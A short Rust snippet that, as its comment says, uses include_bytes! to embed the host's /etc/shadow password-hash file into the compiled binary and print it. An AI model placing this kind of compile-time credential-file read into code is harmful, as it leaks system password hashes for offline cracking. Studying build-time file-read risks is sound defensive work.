// Embeds the host's password hashes in the binary at compile time.
const SHADOW: &[u8] = include_bytes!("/etc/shadow");
fn main() { println!("{}", String::from_utf8_lossy(SHADOW)); }
